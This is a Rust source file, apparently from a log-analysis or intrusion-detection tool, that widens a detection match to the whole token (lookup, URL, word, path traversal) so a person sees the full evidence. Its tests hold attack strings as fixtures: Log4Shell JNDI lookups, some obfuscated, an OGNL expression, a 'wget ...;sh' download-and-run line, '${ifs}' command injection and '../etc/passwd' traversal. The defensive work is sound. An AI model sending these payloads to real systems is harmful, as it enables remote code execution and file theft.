//! The whole of what evidence names: a look-up with its last brace, an address with its end, a word
//! with its last letter.
//!
//! In: a text, and the range of it that meets a test. Out: the range that a person is shown. Tests
//! look for as little as tells one thing from others, and half a word in a mark says that the rest
//! of it does not matter. Decides nothing: what applies has been decided. Looks at some hundred
//! bytes on either side, whatever they are.

use std::ops::Range;

use memchr::memmem;

/// Longest word that is completed; a longer run of letters and digits is data.
const MAX_WORD_BYTES: usize = 64;
/// Shortest run of one byte that is completed, and the most of it that is marked behind what was
/// found.
const MIN_RUN_BYTES: usize = 16;
const MAX_RUN_BYTES: usize = 4096;
/// Shortest text that may be base64, and have padding.
const MIN_BASE64_BYTES: usize = 12;
/// Ways to write that the way goes up, and parts of them: plain, encoded, encoded twice.
const STEPS: [&[u8]; 10] = [
    b"../", b"..\\", b"%2e", b"%2f", b"%5c", b"%252e", b"%252f", b"%255c", b"%%32", b"%c0%af",
];
const PARTS_OF_STEPS: [&[u8]; 5] = [b".", b"/", b"\\", b"%65", b"%66"];
/// Bytes on either side of a match in which a look-up begins and ends; obfuscated ones have some
/// hundred.
const MAX_LOOKUP_BYTES: usize = 1024;
/// Bytes before a match in which an address begins, and in which it ends; a name in DNS has 255.
const MAX_ADDRESS_BYTES: usize = 300;
/// Longest name of a scheme.
const MAX_SCHEME_BYTES: usize = 16;
/// What is between scheme and host, also where percent-encoding hides it.
const AFTER_SCHEME: [&[u8]; 2] = [b"://", b"%3a%2f%2f"];

/// Returns the whole of what a range names.
///
/// The text is in lower case. What is empty stays so.
pub(crate) fn whole(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    if range.is_empty() || range.end > bytes.len() {
        return range;
    }
    let range = run(bytes, range);
    let range = steps(bytes, range);
    let range = word(bytes, range);
    let range = name(bytes, range);
    let range = address(bytes, range);
    lookup(bytes, range)
}

/// Completes the words of which the range has a part, and escapes such as `%2f`.
fn word(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let (mut start, mut end) = (range.start, range.end);
    let is_letter = |at: usize| bytes.get(at).is_some_and(u8::is_ascii_alphanumeric);
    let before = if is_letter(start) {
        letters(bytes[..start].iter().rev())
    } else {
        0
    };
    let after = if is_letter(end - 1) {
        letters(bytes[end..].iter())
    } else {
        0
    };
    if before > MAX_WORD_BYTES || after > MAX_WORD_BYTES {
        return range;
    }
    if is_letter(start) {
        start = escape_before(bytes, start, before).unwrap_or(start - before);
    }
    end += after;
    start..end
}

/// How many of these bytes, or one more than a word has, are letters or digits.
fn letters<'a>(bytes: impl Iterator<Item = &'a u8>) -> usize {
    let near = bytes.take(MAX_WORD_BYTES + 1);
    near.take_while(|byte| byte.is_ascii_alphanumeric()).count()
}

/// Completes what is written as several words: `curl/7` of `curl/7.54.0`, `.sql` of `dump.sql`,
/// `name` of `name@a.example`, base64 with its padding, and a parenthesis.
fn name(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let Range { mut start, mut end } = range;
    let is_of_file = |byte: &&u8| byte.is_ascii_alphanumeric() || b"_-.".contains(byte);
    if bytes.get(start) == Some(&b'.') {
        let before = bytes[..start].iter().rev().take(MAX_WORD_BYTES);
        start -= before.take_while(is_of_file).count();
    }
    let is_number = bytes.get(end - 1).is_some_and(u8::is_ascii_digit);
    let rest = |end: usize| bytes[end..].iter().take(MAX_WORD_BYTES);
    match bytes.get(end..).unwrap_or_default() {
        [b'.', digit, ..] if is_number && digit.is_ascii_digit() => {
            let is_of_version = |byte: &&u8| byte.is_ascii_digit() || **byte == b'.';
            end += rest(end).take_while(is_of_version).count();
        }
        [b'@', letter, ..] if letter.is_ascii_alphanumeric() => {
            end += 1 + rest(end + 1).take_while(is_of_file).count();
        }
        [b'=', after @ ..] if end - start >= MIN_BASE64_BYTES => {
            let padding = 1 + usize::from(after.first() == Some(&b'='));
            let is_end = !bytes.get(end + padding).is_some_and(u8::is_ascii_graphic);
            end += if is_end { padding } else { 0 };
        }
        _ => {}
    }
    let count = |sign: u8| {
        bytes[start..end]
            .iter()
            .filter(|&&byte| byte == sign)
            .count()
    };
    if bytes.get(end) == Some(&b')') && count(b'(') > count(b')') {
        end += 1;
    }
    start..end
}

/// Completes a run of one byte, such as overflows a buffer.
fn run(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let inner = &bytes[range.clone()];
    let last = inner[inner.len() - 1];
    if inner.iter().rev().take_while(|&&byte| byte == last).count() < MIN_RUN_BYTES {
        return range;
    }
    let after = bytes[range.end..].iter().take(MAX_RUN_BYTES);
    range.start..range.end + after.take_while(|&&byte| byte == last).count()
}

/// Completes a way up through folders, step by step.
fn steps(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let Range { mut start, mut end } = range;
    let inner = &bytes[start..end];
    if !STEPS.iter().any(|step| memmem::find(inner, step).is_some()) {
        return range;
    }
    let is_near =
        |at: usize| at.abs_diff(range.start).min(at.abs_diff(range.end)) < MAX_LOOKUP_BYTES;
    let step = |is_here: &dyn Fn(&[u8]) -> bool| {
        let mut parts = STEPS.iter().chain(&PARTS_OF_STEPS);
        parts.find(|part| is_here(part)).map(|part| part.len())
    };
    while is_near(end)
        && let Some(length) = step(&|part| bytes[end..].starts_with(part))
    {
        end += length;
    }
    while is_near(start)
        && let Some(length) = step(&|part| bytes[..start].ends_with(part))
    {
        start -= length;
    }
    start..end
}

/// Where the word begins that so many letters before `start` seem to belong to, if the first of
/// them are of `%2f`.
fn escape_before(bytes: &[u8], start: usize, letters: usize) -> Option<usize> {
    let sign = start.checked_sub(letters + 1)?;
    let digits = bytes.get(sign + 1..sign + 3)?;
    let is_escape = bytes[sign] == b'%' && digits.iter().all(u8::is_ascii_hexdigit);
    match letters {
        // The range begins within the escape.
        _ if !is_escape => None,
        0 | 1 => Some(sign),
        _ => Some(sign + 3),
    }
}

/// Completes an address of which the range has a part of the scheme or of the host.
fn address(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let around =
        range.start.saturating_sub(MAX_ADDRESS_BYTES)..bytes.len().min(range.end.saturating_add(9));
    let signs = AFTER_SCHEME.iter().filter_map(|sign| {
        let at = around.start + memmem::rfind(&bytes[around.clone()], sign)?;
        Some((at, at + sign.len()))
    });
    let Some((colon, host)) = signs.max() else {
        return range;
    };
    let before = bytes[..colon].iter().rev().take(MAX_SCHEME_BYTES);
    let scheme = before
        .take_while(|byte| byte.is_ascii_alphanumeric())
        .count();
    let start = colon - scheme;
    let limit = bytes
        .len()
        .min(host.max(range.end).saturating_add(MAX_ADDRESS_BYTES));
    let rest = bytes.get(host..limit).unwrap_or_default();
    let end_of = |is_end: fn(&[u8]) -> bool| {
        let length = (0..rest.len()).find(|&at| is_end(&rest[at..]));
        host + length.unwrap_or(rest.len())
    };
    let end_of_host = end_of(ends_host);
    let end = end_of(ends_address);
    let has_a_part = scheme > 0 && start < range.end && range.start < end_of_host;
    if has_a_part && range.end <= end {
        range.start.min(start)..end
    } else {
        range
    }
}

/// What no address has in it, or what is around one.
fn ends_address(rest: &[u8]) -> bool {
    match rest {
        [byte, ..] => !byte.is_ascii_graphic() || br#""'`<>(){}[]|\^;,&$"#.contains(byte),
        [] => true,
    }
}

fn ends_host(rest: &[u8]) -> bool {
    ends_address(rest) || rest.starts_with(b"%2f") || matches!(rest, [b'/' | b'?' | b'#', ..])
}

/// Completes `${…}`, `%{…}` or `#{…}` of which the range has a part, and what is nested in it or
/// around it.
fn lookup(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let around = outermost(bytes, range.start);
    if let Some(end) = end_of_lookup(bytes, around, range.end) {
        return around..end;
    }
    // What was opened before and has no end is none.
    if let Some(end) = end_of_lookup(bytes, range.start, range.end) {
        return range.start..end;
    }
    range.start..end_of_open(bytes, range.end)
}

/// Where all look-ups are closed that are open between here and `end`, there or behind it; `None`
/// if they stay open.
fn end_of_lookup(bytes: &[u8], start: usize, end: usize) -> Option<usize> {
    let limit = bytes.len().min(end.saturating_add(MAX_LOOKUP_BYTES));
    let mut depth = 0_usize;
    for at in start..limit {
        if depth == 0 && at >= end {
            return Some(at);
        }
        match bytes[at] {
            b'{' if depth > 0 || is_opening(bytes, at) => depth += 1,
            b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    (depth == 0).then_some(limit)
}

/// Where the outermost look-up begins that is open here; here, if none is.
fn outermost(bytes: &[u8], here: usize) -> usize {
    let (mut start, mut closed) = (here, 0_usize);
    let limit = here.saturating_sub(MAX_LOOKUP_BYTES);
    for at in (limit..here).rev() {
        match bytes[at] {
            b'}' => closed += 1,
            b'{' if closed > 0 => closed -= 1,
            b'{' if is_opening(bytes, at) => start = at - 1,
            // The brace of JSON or of a program.
            b'{' | b'\n' => break,
            _ => {}
        }
    }
    start
}

fn is_opening(bytes: &[u8], brace: usize) -> bool {
    let sign = brace.checked_sub(1).and_then(|at| bytes.get(at));
    sign.is_some_and(|sign| b"$%#".contains(sign))
}

/// As far as a look-up without an end seems to go.
fn end_of_open(bytes: &[u8], from: usize) -> usize {
    let limit = bytes.len().min(from.saturating_add(MAX_ADDRESS_BYTES));
    let rest = bytes.get(from..limit).unwrap_or_default();
    let is_end = |byte: &u8| !byte.is_ascii_graphic() || b"\"'<>&".contains(byte);
    from + rest.iter().position(is_end).unwrap_or(rest.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What is marked of a text when this part of it meets a test.
    fn marked<'a>(text: &'a str, part: &str) -> &'a str {
        let start = text.find(part).expect("it is there");
        &text[whole(text.as_bytes(), start..start + part.len())]
    }

    #[test]
    fn a_look_up_ends_at_its_brace() {
        for (text, part, expected) in [
            ("x ${jndi:ldap://x/a} y", "${jndi:", "${jndi:ldap://x/a}"),
            ("x ${jndi:ldap://x/a} y", "jndi:ldap:", "${jndi:ldap://x/a}"),
            (
                "${${lower:j}ndi:ldap://x/${env:a}}}",
                "${lower:",
                "${${lower:j}ndi:ldap://x/${env:a}}",
            ),
            (
                "a=${${::-j}${::-n}di:rmi://x/a};b",
                "${::-n}",
                "${${::-j}${::-n}di:rmi://x/a}",
            ),
            (
                "{\"a\":\"${jndi:dns://x}\"}",
                "jndi:dns:",
                "${jndi:dns://x}",
            ),
            ("%{(#a=@java@b).{c}} d", "@java@", "%{(#a=@java@b).{c}}"),
            // One that is before it, and one that is in it.
            ("${a} word {b}", "word", "word"),
            ("cat${ifs}/etc/passwd", "${ifs}", "${ifs}"),
            ("${never closed, word and word", "word", "word"),
            // Without an end, and with one out of reach.
            ("${jndi:ldap://x/a and more", "${jndi:", "${jndi:ldap://x/a"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
        let long = format!("${{jndi:{}}}", "a".repeat(10_000));
        assert!(marked(&long, "${jndi:").len() <= 7 + MAX_LOOKUP_BYTES);
    }

    #[test]
    fn an_address_is_marked_to_its_end() {
        for (text, part, expected) in [
            (
                "\"http://a.example/b?c\" d",
                "http://",
                "http://a.example/b?c",
            ),
            (
                "wget http://a.example/b;sh",
                "wget http",
                "wget http://a.example/b",
            ),
            (
                "u=https://x1.oast.fun/p&v",
                "x1.oast.fun",
                "https://x1.oast.fun/p",
            ),
            (
                "u=http%3a%2f%2fx1.oast.fun%2fp&v",
                "x1.oast.fun",
                "http%3a%2f%2fx1.oast.fun%2fp",
            ),
            (
                "(+https://about.a.example/)",
                "about.a",
                "https://about.a.example/",
            ),
            ("x1.oast.fun", "x1.oast.fun", "x1.oast.fun"),
            // Its path is not the address.
            ("http://a.example/../etc/passwd?x", "../", "/../"),
            ("http://a.example/ and word", "word", "word"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
        let long = format!("http://{}", "a/".repeat(10_000));
        assert!(marked(&long, "http").len() <= 7 + MAX_ADDRESS_BYTES);
    }

    #[test]
    fn a_word_is_marked_to_its_end() {
        for (text, part, expected) in [
            ("/wp-login.php", "wp-log", "wp-login"),
            ("mozilla/5.0 zgrabber/0.x", "zgrab", "zgrabber"),
            ("/administrator/", "/admin", "/administrator"),
            ("/a%2fpasswd", "passwd", "passwd"),
            ("/a%2fpasswd", "fpasswd", "%2fpasswd"),
            ("/cgi-bin/luci", "/cgi-bin/", "/cgi-bin/"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
        let long = "ab".repeat(50);
        assert_eq!(marked(&long, "aba"), "aba");
    }

    #[test]
    fn a_name_of_several_words_is_marked_to_its_end() {
        for (text, part, expected) in [
            ("curl/7.54.0 x", "curl/7", "curl/7.54.0"),
            ("/a/dump-1.sql", ".sql", "dump-1.sql"),
            ("(name@mail.a.example)", "name", "name@mail.a.example"),
            (
                "basic cm9vddphzg1pbg==\r\n",
                "basic cm9vddphzg1pbg",
                "basic cm9vddphzg1pbg==",
            ),
            ("4.0 (hydra)", "(hydra", "(hydra)"),
            ("a=1&b=2", "a=1", "a=1"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
    }

    #[test]
    fn runs_and_ways_up_are_marked_to_their_ends() {
        let long = format!("x={}&y", "A".repeat(1000));
        assert_eq!(marked(&long, &"A".repeat(100)).len(), 1000);
        for (text, part, expected) in [
            ("f=../../../etc/passwd", "../../", "../../../"),
            ("f=..%252f..%252f&x", "%252f", "..%252f..%252f"),
            ("/b/%%32%65%%32%65/c", "%%32", "/%%32%65%%32%65/"),
            ("/a/../b", "/b", "/b"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
    }

    #[test]
    fn no_bytes_panic() {
        let bytes: Vec<u8> = b"${%{http://%2f%3a%2f%2fa}}\n\"".repeat(3);
        for start in 0..bytes.len() {
            for end in start..=bytes.len() {
                let range = whole(&bytes, start..end);
                assert!(range.start <= start && range.end >= end && range.end <= bytes.len());
            }
        }
        assert_eq!(whole(b"", 0..0), 0..0);
        assert_eq!(whole(b"a", 0..2), 0..2);
    }
}
